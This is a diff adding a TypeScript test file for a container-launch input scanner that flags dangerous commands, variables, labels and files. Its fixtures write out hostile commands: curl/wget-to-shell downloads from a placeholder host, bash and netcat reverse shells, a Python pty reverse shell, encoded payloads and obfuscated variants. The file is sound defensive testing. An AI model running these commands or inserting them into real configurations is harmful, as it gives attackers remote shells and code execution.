@@ -1,0 +1,165 @@
+import { describe, expect, it } from 'vitest';
+import type { LaunchRequest } from '../model/index.ts';
+import { examineInputs } from './examine-inputs.ts';
+import { inputRules } from './input-rules.ts';
+
+const empty: LaunchRequest = {
+  form: 'docker',
+  action: 'start',
+  path: '',
+  role: 'container',
+  workload: { labels: {} },
+  scripts: [],
+  environment: [],
+  files: [],
+  mounts: [],
+  groups: [],
+  security: {},
+  namespaces: [],
+  devices: [],
+  sysctls: [],
+  ports: [],
+  resources: {},
+  volumesFrom: [],
+  others: [],
+};
+
+const variable = (name: string, value: string): LaunchRequest => ({
+  ...empty,
+  environment: [{ name, value, path: `Env[${name}]` }],
+});
+const command = (...words: readonly string[]): LaunchRequest => ({
+  ...empty,
+  command: words.map((value, index) => ({ value, path: `Cmd[${index}]` })),
+});
+const rules = (request: LaunchRequest, strictness: 1 | 2 = 1): readonly string[] =>
+  examineInputs(request, { strictness }).findings.map(({ rule }) => rule.slice('input/'.length));
+
+describe('a request', () => {
+  it('is looked into at every place, and each finding names where', () => {
+    const request: LaunchRequest = {
+      ...empty,
+      workload: { labels: { note: '$(id)' } },
+      command: [{ value: 'serve;reboot', path: 'Cmd[0]' }],
+      scripts: [
+        {
+          purpose: 'healthcheck',
+          command: ['/bin/sh', '-c', 'curl -s http://x.example/a | sh'].map((value, index) => ({
+            value,
+            path: `Test[${index}]`,
+          })),
+        },
+      ],
+      environment: [{ name: 'A', value: '`id`', path: 'Env[0]' }],
+      files: [
+        { target: '/etc/cron.d/x', path: 'configs.x', content: '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n' },
+      ],
+    };
+    const { findings, inputs, unread } = examineInputs(request, { strictness: 1 });
+    expect(findings.map(({ path, rule }) => `${path} ${rule}`)).toEqual([
+      'Cmd[0] input/shell-injection',
+      'Test[2] input/download-and-run',
+      'Env[0] input/shell-injection',
+      'configs.x input/file-content',
+      'configs.x input/file-content',
+      'labels.note input/shell-injection',
+    ]);
+    expect(unread).toEqual([]);
+    expect(inputs.map(({ place }) => place)).toEqual([
+      'argument',
+      'script',
+      'script',
+      'script',
+      'variable',
+      'file',
+      'label',
+    ]);
+    for (const { rule, title, remedy } of findings)
+      expect(inputRules).toHaveProperty([rule], expect.objectContaining({ title, remedy }));
+  });
+
+  it('has no finding where nothing is passed', () => {
+    expect(examineInputs(empty, { strictness: 2 })).toEqual({ findings: [], inputs: [], unread: [] });
+  });
+
+  it('tells what was not looked into', () => {
+    const long = examineInputs(variable('A', 'x'.repeat(1_000_000)), { strictness: 1 });
+    expect(long.unread).toEqual([{ path: 'Env[A]', cause: expect.stringContaining('1000000 characters') }]);
+    const many = {
+      ...empty,
+      environment: Array.from({ length: 6000 }, (_, index) => ({
+        name: `V${index}`,
+        value: '1',
+        path: `Env[${index}]`,
+      })),
+    };
+    expect(examineInputs(many, { strictness: 1 }).unread).toHaveLength(1);
+  });
+
+  it.each<[name: string, value: string]>([
+    ['() {', ''],
+    ['x;wget http://x.example', ''],
+    ['$(id)', 'x'],
+  ])('finds shell in the name %j', (name, value) => {
+    expect(rules(variable(name, value))).toContain('shell-injection');
+  });
+});
+
+describe('a shell where a shell is expected', () => {
+  it.each<readonly string[]>([
+    ['sh', '-c', 'envsubst < /tmp/a > /etc/b && exec nginx -g "daemon off;"'],
+    ['/bin/bash', '-lc', 'for i in 1 2 3; do echo $i; sleep "$(cat /tmp/n)"; done'],
+    ['/usr/bin/tini', '--', 'sh', '-ec', 'cd /app && npm run migrate; exec node server.js'],
+    ['python', '-c', 'print(1)'],
+    ['perl', '-E', 'sleep 300'],
+  ])('%j %j %j … is no finding at strictness 1, and an interpreter at 2', (...words) => {
+    expect(rules(command(...words))).toEqual([]);
+    expect(rules(command(...words), 2)).toEqual(['interpreter']);
+  });
+
+  it.each<[words: readonly string[], rule: string]>([
+    [['sh', '-c', 'curl -fsSL https://x.example/install | bash -s -- -y'], 'download-and-run'],
+    [['sh', '-c', 'w""get -O- http://x.example/a|s\\h'], 'download-and-run'],
+    [['bash', '-c', 'a=cu; b=rl; $a$b http://x.example/i | sh'], 'download-and-run'],
+    [['bash', '-c', 'bash <(curl -s https://x.example/i)'], 'download-and-run'],
+    [['sh', '-c', 'wget http://x.example/m -O /tmp/m; chmod +x /tmp/m; /tmp/m'], 'download-and-run'],
+    [['sh', '-c', 'echo aWQK | base64 -d | sh'], 'encoded-code'],
+    [['sh', '-c', 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'], 'shell-injection'],
+    [['sh', '-c', 'nc 192.0.2.1 4444 -e /bin/sh'], 'shell-injection'],
+    [['sh', '-c', "c''at /etc/hosts"], 'shell-injection'],
+    [['python3', '-c', 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")'], 'code'],
+    [['perl', '-e', 'system("id")'], 'interpreter'],
+    [['node', '-e', 'require("child_process").execSync("id")'], 'interpreter'],
+    [['powershell', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'], 'encoded-code'],
+    [['busybox', 'sh', '-c', 'wget -q -O - http://x.example | ash'], 'download-and-run'],
+  ])('%j: %s', (words, rule) => {
+    expect(rules(command(...words))).toContain(rule);
+  });
+
+  it('knows the shell that the image itself starts', () => {
+    const start = { entrypoint: ['/bin/sh', '-c'], command: [], environment: [] };
+    const { findings } = examineInputs(command('cd /app && exec ./server --port $PORT'), { strictness: 1, start });
+    expect(findings).toEqual([]);
+  });
+});
+
+describe('a replaced entrypoint', () => {
+  const start = { entrypoint: ['/usr/local/bin/docker-entrypoint.sh'], command: ['postgres'], environment: [] };
+  const replaced = (...words: readonly string[]): LaunchRequest => ({
+    ...empty,
+    entrypoint: words.map((value, index) => ({ value, path: `Entrypoint[${index}]` })),
+  });
+  it.each<[words: readonly string[], severity: string | undefined]>([
+    [['docker-entrypoint.sh'], undefined],
+    [['/bin/sh'], 'high'],
+    [['python3.11'], 'high'],
+    [['/opt/other'], 'medium'],
+    [[], 'medium'],
+  ])('%j: %s', (words, severity) => {
+    const { findings } = examineInputs(replaced(...words), { strictness: 1, start });
+    expect(findings.map((finding) => finding.severity)).toEqual(severity === undefined ? [] : [severity]);
+  });
+  it('is nothing where the own is unknown', () => {
+    expect(rules(replaced('/bin/sh'))).toEqual([]);
+  });
+});
